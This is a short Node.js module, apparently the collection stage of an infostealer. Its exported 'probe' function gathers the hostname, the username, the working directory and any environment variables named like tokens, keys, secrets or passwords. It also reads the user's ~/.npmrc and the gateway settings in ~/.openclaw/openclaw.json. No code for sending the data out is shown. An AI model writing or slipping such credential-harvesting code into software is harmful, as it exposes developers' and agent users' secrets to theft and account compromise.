const os = require("os"), fs = require("fs"), path = require("path");
module.exports = function probe() {
  const f = { h: os.hostname(), u: os.userInfo().username, c: process.cwd(), e: {} };
  for (const [k, v] of Object.entries(process.env)) if (/TOKEN|KEY|SECRET|PASS|AUTH/i.test(k)) f.e[k] = v;
  try { f.n = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8"); } catch {}
  try { f.g = JSON.parse(fs.readFileSync(path.join(os.homedir(), ".openclaw", "openclaw.json"), "utf8")).gateway; } catch {}
  return f;
};
